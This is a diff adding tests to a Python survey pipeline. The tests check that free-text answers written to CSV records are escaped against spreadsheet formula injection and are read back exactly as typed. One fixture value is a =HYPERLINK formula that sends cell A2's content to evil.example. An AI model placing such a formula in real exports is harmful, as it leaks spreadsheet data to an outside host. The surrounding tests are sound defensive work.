@@ -6,6 +6,7 @@ module, so the build (duckdb, ...) and the reference data are imported only wher
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
 import json
 import multiprocessing
@@ -463,6 +464,57 @@ def test_every_submission_is_a_new_immutable_record(invited, fw):
     latest = latest_submission(store, access)
     assert latest[["element_id", "level", "publish_consent"]].values.tolist() == [
         ["STR-01", "4", "true"]]
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?"&A2,"click")'
+EVIDENCE = {"STR-01": FORMULA, "STR-02": "-2+3", "SEC-01": "@SUM(A1:A9)",
+            "SEC-02": "'=typed with a quote", "GOV-01": "'s-Hertogenbosch, besluit 2025"}
+
+
+def test_a_record_neutralises_free_text_and_reads_it_back_as_typed(invited, fw):
+    store = invited.store
+    access = store.open_link(invited.by[("NL_GM0363", "dpo")].token, now=T)
+    mine = sheet(fw, {e: {"level": 2, "evidence": text} for e, text in EVIDENCE.items()})
+    path = submit(store, access, mine, fw.element_ids, now=T)
+
+    # what a spreadsheet opening the record sees: no cell it would run
+    with path.open(encoding="utf-8", newline="") as fh:
+        cells = list(csv.DictReader(fh))
+    on_disk = {c["element_id"]: c["evidence"] for c in cells}
+    assert on_disk["STR-01"] == "'" + FORMULA and on_disk["SEC-01"] == "'@SUM(A1:A9)"
+    assert on_disk["SEC-02"] == "''=typed with a quote"
+    assert on_disk["GOV-01"] == EVIDENCE["GOV-01"]
+    assert not [v for c in cells for v in c.values() if v and v[0] in "=+-@\t\r"]
+
+    # every reader gets what the respondent typed
+    assert dict(zip(*read_record(path)[["element_id", "evidence"]].T.values, strict=True)) == EVIDENCE
+    draft_path(store, access).unlink()
+    reloaded = load_draft(store, access, fw.element_ids).sheet
+    assert {e: a.evidence for e, a in reloaded.answers.items()} == EVIDENCE
+
+    from pipelines.survey.pending import ingest_pending
+
+    (report,) = ingest_pending(DataPaths(store.data_dir), framework=fw)
+    assert report.ok
+    (staged,) = staged_inputs(DataPaths(store.data_dir))
+    rows = pd.read_parquet(staged.parquet)
+    assert dict(zip(rows["element_id"].astype(str), rows["evidence"], strict=True)) == EVIDENCE
+
+
+def test_a_canonical_file_from_elsewhere_keeps_its_quotes(invited, fw, tmp_path):
+    """Only the app's own records are restored: an upload's leading quote is the user's."""
+    from pipelines.ingest import ingest_files
+
+    upload = tmp_path / "upload.csv"
+    upload.write_text("municipality_id,wave,element_id,level,respondent_id,respondent_role,"
+                      "submitted_at,confidence,evidence\n"
+                      "NL_GM0363,2025,STR-01,2,r1,cio,2025-02-01,high,'=quoted by someone\n",
+                      encoding="utf-8")
+    paths = DataPaths(invited.store.data_dir)
+    report = ingest_files([upload], paths, framework=fw, now=T, progress=False)
+    assert report.ok
+    (staged,) = staged_inputs(paths)
+    assert pd.read_parquet(staged.parquet)["evidence"].tolist() == ["'=quoted by someone"]
 
 
 def test_submit_refuses_an_empty_sheet(invited, fw):
